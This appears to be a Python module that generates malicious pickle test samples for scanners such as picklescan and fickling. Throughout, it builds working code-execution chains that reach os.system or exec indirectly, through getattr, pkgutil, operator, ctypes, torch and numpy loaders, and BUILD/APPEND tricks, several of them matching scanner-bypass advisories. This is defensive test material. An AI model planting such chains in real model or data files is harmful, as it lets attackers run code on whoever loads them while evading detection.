"""Pickle samples that reach a dangerous callable indirectly: through resolvers, attribute
getters, higher-order functions, code objects, or state set by BUILD and APPEND."""

from __future__ import annotations

import marshal
import pickle
from pathlib import Path

from _pk import body, call, proto, sbu, stack_global
from registry import Canary, sample

R, S = pickle.REDUCE, pickle.STOP


def _save(out: Path, data: bytes) -> None:
    out.write_bytes(proto(4) + data + S)


@sample("chain-getattr-import", "pickle-getattr-indirection")
def _getattr_import(out: Path, c: Canary) -> None:
    os_mod = call(stack_global("builtins", "__import__"), "os")
    fn = stack_global("builtins", "getattr") + os_mod + body("system") + pickle.TUPLE2 + R
    _save(out, call(fn, c.shell))


@sample("chain-import-module", "pickle-importlib-indirection")
def _import_module(out: Path, c: Canary) -> None:
    mod = call(stack_global("importlib", "import_module"), "os")
    fn = stack_global("builtins", "getattr") + mod + body("system") + pickle.TUPLE2 + R
    _save(out, call(fn, c.shell))


@sample("chain-pkgutil-resolve-name", "ghsa-picklescan-pkgutil-resolve-name")
def _resolve_name(out: Path, c: Canary) -> None:
    _save(out, call(call(stack_global("pkgutil", "resolve_name"), "os:system"), c.shell))


@sample("chain-pydoc-locate-methodcaller", "ghsa-picklescan-pydoc-locate")
def _locate(out: Path, c: Canary) -> None:
    mc = call(stack_global("operator", "methodcaller"), "system", c.shell)
    _save(out, mc + call(stack_global("pydoc", "locate"), "os") + pickle.TUPLE1 + R)


@sample("chain-operator-methodcaller", "ghsa-picklescan-operator")
def _methodcaller(out: Path, c: Canary) -> None:
    mc = call(stack_global("_operator", "methodcaller"), "system", c.shell)
    _save(out, mc + call(stack_global("builtins", "__import__"), "os") + pickle.TUPLE1 + R)


@sample("chain-operator-attrgetter", "pickle-operator-attrgetter")
def _attrgetter(out: Path, c: Canary) -> None:
    ag = call(stack_global("operator", "attrgetter"), "system")
    fn = ag + call(stack_global("builtins", "__import__"), "os") + pickle.TUPLE1 + R
    _save(out, call(fn, c.shell))


@sample("chain-ctypes-cdll-system", "ghsa-picklescan-ctypes")
def _ctypes(out: Path, c: Canary) -> None:
    mc = call(stack_global("operator", "methodcaller"), "system", c.shell.encode())
    _save(out, mc + call(stack_global("ctypes", "CDLL"), None) + pickle.TUPLE1 + R)


@sample("chain-subinterpreter-run-string", "ghsa-fickling-subinterpreters")
def _subinterp(out: Path, c: Canary) -> None:
    interp = call(stack_global("_xxsubinterpreters", "create"))
    fn = stack_global("_xxsubinterpreters", "run_string")
    _save(out, fn + interp + body(c.py) + pickle.TUPLE2 + R)


@sample("chain-functools-partial", "pickle-higher-order-call")
def _partial(out: Path, c: Canary) -> None:
    part = stack_global("functools", "partial") + stack_global("builtins", "exec")
    part += body(c.py) + pickle.TUPLE2 + R
    _save(out, call(part))


@sample("chain-rebuild-from-type-v2", "pickle-torch-rebuild-launder")
def _rebuild_from_type(out: Path, c: Canary) -> None:
    fn = stack_global("torch._tensor", "_rebuild_from_type_v2")
    # _rebuild_from_type_v2(func, new_type, args, state) calls func(*args)
    data = fn + pickle.MARK + stack_global("builtins", "exec") + stack_global("builtins", "object")
    data += body((c.py,)) + pickle.NONE + pickle.TUPLE + R
    _save(out, data)


@sample("chain-code-object-function", "pickle-code-object")
def _code_object(out: Path, c: Canary) -> None:
    code = marshal.dumps(compile(c.py, "<model>", "exec"))
    co = call(stack_global("marshal", "loads"), code)
    fn = stack_global("types", "FunctionType") + co + call(stack_global("builtins", "globals"))
    fn += pickle.TUPLE2 + R
    _save(out, call(fn))


@sample("chain-cloudpickle-function", "pickle-cloudpickle-code")
def _cloudpickle(out: Path, c: Canary) -> None:
    import cloudpickle

    ns: dict[str, object] = {}
    exec(f"def payload():\n    {c.py}\n", ns)  # a function defined at run time: pickled by value
    out.write_bytes(cloudpickle.dumps(_Call(ns["payload"])))


@sample("chain-dill-lambda", "pickle-dill-code")
def _dill(out: Path, c: Canary) -> None:
    import dill

    ns: dict[str, object] = {}
    exec(f"def payload():\n    {c.py}\n", ns)
    out.write_bytes(dill.dumps(_Call(ns["payload"]), recurse=True))


class _Call:
    def __init__(self, fn: object) -> None:
        self.fn = fn

    def __reduce__(self) -> tuple[object, tuple[()]]:
        return self.fn, ()


@sample("chain-build-setstate-plant", "pickle-build-setstate")
def _build_setstate(out: Path, c: Canary) -> None:
    # an ordinary object; BUILD gives it an instance attribute __setstate__ = exec,
    # and a second BUILD calls inst.__setstate__(state) = exec(code).
    inst = call(stack_global("argparse", "Namespace"))
    state = pickle.NONE + pickle.EMPTY_DICT + sbu("__setstate__")
    state += stack_global("builtins", "exec") + pickle.SETITEM + pickle.TUPLE2
    _save(out, inst + state + pickle.BUILD + body(c.py) + pickle.BUILD)


@sample("chain-append-plant", "pickle-append-plant")
def _append_plant(out: Path, c: Canary) -> None:
    # APPEND on a non-list calls obj.append(value): an attribute planted by BUILD
    inst = call(stack_global("argparse", "Namespace"))
    state = pickle.NONE + pickle.EMPTY_DICT + sbu("append")
    state += stack_global("builtins", "exec") + pickle.SETITEM + pickle.TUPLE2
    _save(out, inst + state + pickle.BUILD + body(c.py) + pickle.APPEND)


def _bound(kind: str):  # type: ignore[no-untyped-def]
    """An instance whose unbound method runs code (the object is pickled normally)."""
    import bdb
    import code
    import profile
    import trace

    return {
        "bdb": (bdb.Bdb.run, bdb.Bdb()),
        "interpreter": (code.InteractiveInterpreter.runcode, code.InteractiveInterpreter()),
        "trace": (trace.Trace.runctx, trace.Trace(count=0, trace=0)),
        "profile": (profile.Profile.runctx, profile.Profile()),
    }[kind]


@sample("chain-lib2to3-grammar-loads", "ghsa-picklescan-lib2to3")
def _grammar_loads(out: Path, c: Canary) -> None:
    from lib2to3.pgen2.grammar import Grammar

    from _pk import dumps

    out.write_bytes(dumps(Grammar.loads, Grammar(), pickle.dumps(_Call2(exec, c.py), protocol=2)))


@sample("chain-lib2to3-make-label", "ghsa-picklescan-lib2to3")
def _make_label(out: Path, c: Canary) -> None:
    from lib2to3.pgen2.grammar import Grammar
    from lib2to3.pgen2.pgen import ParserGenerator

    from _pk import dumps

    out.write_bytes(dumps(ParserGenerator.make_label, None, Grammar(), '""+' + c.py_expr))


for _kind, _tech in (
    ("bdb", "ghsa-picklescan-debuggers"),
    ("interpreter", "ghsa-picklescan-debuggers"),
    ("trace", "ghsa-picklescan-debuggers"),
    ("profile", "ghsa-picklescan-profile"),
):

    def _method(out: Path, c: Canary, kind: str = _kind) -> None:
        from _pk import dumps

        fn, inst = _bound(kind)
        args = (inst, c.py) if kind in ("bdb", "interpreter") else (inst, c.py, {}, {})
        out.write_bytes(dumps(fn, *args))

    sample(f"chain-method-{_kind}", _tech)(_method)


def _partial_call(fn: object, *args: object, **kw: object) -> bytes:
    """fn(*args, **kw) written as pickle writes functools.partial, then called."""
    import functools

    raw = pickle.dumps(functools.partial(fn, *args, **kw), protocol=4)  # type: ignore[arg-type]
    raw = raw[:2] + raw[11:] if raw[2:3] == pickle.FRAME else raw
    return raw[2:-1] + pickle.EMPTY_TUPLE + R


class _Call2:
    def __init__(self, fn: object, arg: str) -> None:
        self.fn, self.arg = fn, arg

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return self.fn, (self.arg,)


@sample("chain-partial-torch-load-side-file", "nested-file-loader")
def _partial_torch_load(out: Path, c: Canary) -> None:
    import torch

    side = out.with_name("shard-2.bin")
    side.write_bytes(pickle.dumps(_Call2(exec, c.py), protocol=2))
    _save(out, _partial_call(torch.load, str(side), weights_only=False))


@sample("chain-numpy-load-side-file", "nested-file-loader")
def _numpy_load(out: Path, c: Canary) -> None:
    import numpy as np

    side = out.with_name("vocab.npy")
    arr = np.empty(1, dtype=object)
    arr[0] = _Call2(exec, c.py)
    np.save(side, arr, allow_pickle=True)
    _save(out, _partial_call(np.load, str(side), allow_pickle=True))
